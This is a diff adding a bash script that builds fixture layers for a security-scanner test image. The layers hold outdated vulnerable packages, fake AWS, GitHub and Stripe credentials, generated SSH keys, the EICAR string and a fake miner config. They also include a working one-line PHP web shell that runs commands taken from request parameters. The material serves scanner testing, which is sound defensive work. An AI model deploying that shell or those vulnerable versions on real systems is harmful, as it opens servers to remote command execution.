@@ -1,0 +1,128 @@
+#!/bin/bash
+# Builds the contents of the language, binary, secret and malware layers of the test image as plain trees
+# under $TD/layers/<name>/ (each rooted at "/"; also scannable as directories). Needs npm, go, zip, openssl,
+# ssh-keygen; .debs come from Debian (bullseye through a private apt root).
+. "$(dirname "$0")/lib.sh"
+L=$TD/layers; SRC=$TD/src
+[ -f "$L/.done" ] && exit 0
+mkdir -p "$L" "$SRC/debs"
+
+need() { command -v "$1" >/dev/null || step "apt install $2" apt_install $2; }
+need go golang-go; need zip zip; need unzip unzip; need openssl openssl; need ssh-keygen openssh-client
+
+# ---------- .debs (no install: only extracted) ----------
+suite_download bullseye "$SRC/debs" libcommons-text-java=1.9-1 libjackson2-databind-java=2.12.1-1+deb11u1 \
+  libyaml-snake-java=1.28-1+deb11u2 liblog4j2-java=2.17.1-1~deb11u1 direnv=2.25.2-2
+(cd "$SRC/debs" && apt-get download -q golang-golang-x-net-dev golang-golang-x-text-dev golang-gopkg-yaml.v2-dev clamav-testfiles >>"$TD/apt.log" 2>&1)
+rm -rf "$SRC/ex"; mkdir -p "$SRC/ex"
+for f in "$SRC"/debs/*.deb; do dpkg-deb -x "$f" "$SRC/ex"; done
+
+# ---------- node ----------
+build_node() {
+  local d=$L/node/app/node; rm -rf "$L/node"; mkdir -p "$d"
+  cat >"$d/package.json" <<'J'
+{ "name": "rampart-test-node-app", "version": "1.0.0", "private": true,
+  "dependencies": { "lodash": "4.17.15", "minimist": "1.2.0", "express": "4.16.0",
+                    "jquery": "3.4.0", "handlebars": "4.0.11" } }
+J
+  (cd "$d" && npm install --no-audit --no-fund --ignore-scripts --loglevel=error >/dev/null)
+  mkdir -p "$d/public/js" && cp "$d/node_modules/jquery/dist/jquery.min.js" "$d/public/js/jquery-3.4.0.min.js"
+  echo 'const _ = require("lodash"); const app = require("express")(); app.get("/", (q, r) => r.send(_.VERSION)); app.listen(3000);' >"$d/server.js"
+}
+step "layer node (npm install)" build_node
+
+# ---------- python (fake dist-info; real Debian python packages go in via chroot apt in make-images.sh) ----------
+build_pyfake() {
+  local sp=$L/pyfake/usr/local/lib/python3.9/site-packages; rm -rf "$L/pyfake"; mkdir -p "$sp" "$L/pyfake/app/python"
+  local n v top
+  while read -r n v top; do
+    local di=$sp/$n-$v.dist-info; mkdir -p "$di" "$sp/$top"
+    printf 'Metadata-Version: 2.1\nName: %s\nVersion: %s\nSummary: test fixture (fake install, metadata only)\n' "$n" "$v" >"$di/METADATA"
+    printf 'pip\n' >"$di/INSTALLER"; printf '%s\n' "$top" >"$di/top_level.txt"
+    printf 'Wheel-Version: 1.0\nGenerator: rampart-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n' >"$di/WHEEL"
+    printf '"""fake %s %s"""\n__version__ = "%s"\n' "$n" "$v" "$v" >"$sp/$top/__init__.py"
+    printf '%s/__init__.py,,\n%s-%s.dist-info/METADATA,,\n%s-%s.dist-info/RECORD,,\n' "$top" "$n" "$v" "$n" "$v" >"$di/RECORD"
+    echo "$n==$v" >>"$L/pyfake/app/python/requirements.txt"
+  done <<'P'
+Django 2.2.0 django
+Flask 0.12.2 flask
+PyYAML 5.1 yaml
+requests 2.19.1 requests
+urllib3 1.24.1 urllib3
+Jinja2 2.10 jinja2
+P
+}
+step "layer pyfake" build_pyfake
+
+# ---------- java ----------
+build_java() {
+  local d=$L/java/app/java; rm -rf "$L/java"; mkdir -p "$d/lib"
+  cp "$SRC"/ex/usr/share/java/commons-text-1.9.jar "$SRC"/ex/usr/share/java/snakeyaml-1.28.jar "$d/lib/"
+  cp "$SRC"/ex/usr/share/maven-repo/com/fasterxml/jackson/core/jackson-databind/2.12.1/jackson-databind-2.12.1.jar "$d/lib/"
+  cp "$SRC"/ex/usr/share/maven-repo/org/apache/logging/log4j/log4j-core/2.17.1/log4j-core-2.17.1.jar \
+     "$SRC"/ex/usr/share/maven-repo/org/apache/logging/log4j/log4j-api/2.17.1/log4j-api-2.17.1.jar "$d/lib/"
+  # FAKE metadata-only jar claiming log4j-core 2.14.1 (Log4Shell range); no classes inside
+  local t; t=$(mktemp -d); mkdir -p "$t/META-INF/maven/org.apache.logging.log4j/log4j-core"
+  printf 'Manifest-Version: 1.0\nImplementation-Title: Apache Log4j Core\nImplementation-Version: 2.14.1\nBundle-SymbolicName: org.apache.logging.log4j.core\nBundle-Version: 2.14.1\n' >"$t/META-INF/MANIFEST.MF"
+  printf 'groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n' >"$t/META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties"
+  (cd "$t" && zip -qr -X "$d/lib/log4j-core-2.14.1-FAKE.jar" META-INF); rm -rf "$t"
+  # Spring-Boot-style fat jar: nested jars stored uncompressed under BOOT-INF/lib
+  t=$(mktemp -d); mkdir -p "$t/BOOT-INF/lib" "$t/META-INF/maven/com.example/test-app"
+  cp "$d"/lib/commons-text-1.9.jar "$d"/lib/jackson-databind-2.12.1.jar "$d"/lib/snakeyaml-1.28.jar "$t/BOOT-INF/lib/"
+  printf 'Manifest-Version: 1.0\nMain-Class: org.springframework.boot.loader.JarLauncher\nStart-Class: com.example.TestApp\nImplementation-Title: test-app\nImplementation-Version: 1.0.0\n' >"$t/META-INF/MANIFEST.MF"
+  printf 'groupId=com.example\nartifactId=test-app\nversion=1.0.0\n' >"$t/META-INF/maven/com.example/test-app/pom.properties"
+  (cd "$t" && zip -q -X -0 -r "$d/app.jar" META-INF BOOT-INF); rm -rf "$t"
+}
+step "layer java" build_java
+
+# ---------- go ----------
+build_go() {
+  local g=$SRC/goapp S=$SRC/ex/usr/share/gocode/src; rm -rf "$g" "$L/go"; mkdir -p "$g/vendor/golang.org/x" "$g/vendor/gopkg.in" "$L/go/usr/local/bin"
+  cp "$SETUP/goapp/main.go" "$g/"
+  printf 'module example.com/rampart-goapp\n\ngo 1.19\n\nrequire (\n\tgolang.org/x/net v0.7.0\n\tgolang.org/x/text v0.7.0\n\tgopkg.in/yaml.v2 v2.4.0\n)\n' >"$g/go.mod"
+  cp -a "$S/golang.org/x/net" "$S/golang.org/x/text" "$g/vendor/golang.org/x/"; cp -a "$S/gopkg.in/yaml.v2" "$g/vendor/gopkg.in/"
+  { local m
+    for m in "golang.org/x/net v0.7.0 1.17" "golang.org/x/text v0.7.0 1.17" "gopkg.in/yaml.v2 v2.4.0 -"; do set -- $m
+      echo "# $1 $2"; if [ "$3" = - ]; then echo "## explicit"; else echo "## explicit; go $3"; fi
+      (cd "$g/vendor" && find "$1" -name '*.go' ! -name '*_test.go' -printf '%h\n' | grep -v -e /testdata -e /internal/testenv | sort -u)
+    done; } >"$g/vendor/modules.txt"
+  (cd "$g" && CGO_ENABLED=0 GOFLAGS=-mod=vendor GOPROXY=off GOTOOLCHAIN=local go build -trimpath -o "$L/go/usr/local/bin/rampart-goapp" .)
+  cp "$SRC/ex/usr/bin/direnv" "$L/go/usr/local/bin/direnv"
+}
+step "layer go (vendored build)" build_go
+
+# ---------- secrets (all fake; assembled at run time so this script holds no literal key) ----------
+build_secrets() {
+  local s=$L/secrets; rm -rf "$s"; mkdir -p "$s/app/config" "$s/root/.aws" "$s/root/.ssh" "$s/etc/ssl/private"
+  local AK="AKIA""IOSFODNN7EXAMPLE" SK="wJalrXUtnFEMI/K7MDENG/""bPxRfiCYEXAMPLEKEY"
+  printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' "$AK" "$SK" >"$s/root/.aws/credentials"
+  {
+    echo "DATABASE_URL=postgres://admin:Sup3rS3cretPassw0rd@db.internal:5432/app"
+    echo "GITHUB_TOKEN=ghp_""$(printf 'testfaketoken%024d' 0 | head -c 36)"
+    echo "STRIPE_SECRET_KEY=sk_live_""$(printf '4eC39HqLyjWDarjtT1zdp7dc%s' '')"
+    echo "SLACK_WEBHOOK=https://hooks.slack.com/services/""T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
+    echo "AWS_ACCESS_KEY_ID=$AK"; echo "AWS_SECRET_ACCESS_KEY=$SK"
+  } >"$s/app/config/.env"
+  printf 'database:\n  user: admin\n  password: "Sup3rS3cretPassw0rd"\napi_key: "AIza""SyD-testfake-0123456789abcdefghijklm"\n' >"$s/app/config/config.yaml"
+  openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$s/etc/ssl/private/server.key" 2>/dev/null
+  openssl req -new -x509 -key "$s/etc/ssl/private/server.key" -subj /CN=test.local -days 30 -out "$s/app/config/server.crt" 2>/dev/null
+  ssh-keygen -q -t ed25519 -N '' -C test@fixture -f "$s/root/.ssh/id_ed25519"
+  openssl genrsa -traditional -out "$s/root/.ssh/id_rsa" 2048 2>/dev/null || openssl genrsa -out "$s/root/.ssh/id_rsa" 2048 2>/dev/null
+  chmod 600 "$s"/root/.ssh/id_* "$s/etc/ssl/private/server.key"
+}
+step "layer secrets" build_secrets
+
+# ---------- malware test files (harmless standard test artefacts) ----------
+build_malware() {
+  local m=$L/malware; rm -rf "$m"; mkdir -p "$m/app/uploads" "$m/var/www/html" "$m/tmp/.cache"
+  # EICAR test string, assembled so this script is not itself detected
+  printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR' '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$m/app/uploads/eicar.com"
+  (cd "$m/app/uploads" && zip -q -X eicar.zip eicar.com)
+  printf '<?php %s(base64_decode($_POST["cmd"])); system($_GET["c"]); ?>\n' 'eval' >"$m/var/www/html/shell.php"
+  printf '{ "pools": [ { "url": "stratum+tcp://pool.minexmr.example:4444", "user": "44AFFq5kSiGBoZ", "pass": "x" } ],\n  "cpu": { "enabled": true }, "donate-level": 1, "comment": "xmrig config (fake)" }\n' >"$m/tmp/.cache/config.json"
+  cp "$SRC"/ex/usr/share/clamav-testfiles/clam.exe "$SRC"/ex/usr/share/clamav-testfiles/clam.zip "$SRC"/ex/usr/share/clamav-testfiles/clam.pdf "$m/app/uploads/" 2>/dev/null || true
+}
+step "layer malware" build_malware
+
+for d in "$L"/*/; do printf '%-10s %6s %6s files\n' "$(basename "$d")" "$(du -sh "$d" | cut -f1)" "$(find "$d" -type f | wc -l)"; done | tee "$TD/layers-summary.txt"
+touch "$L/.done"
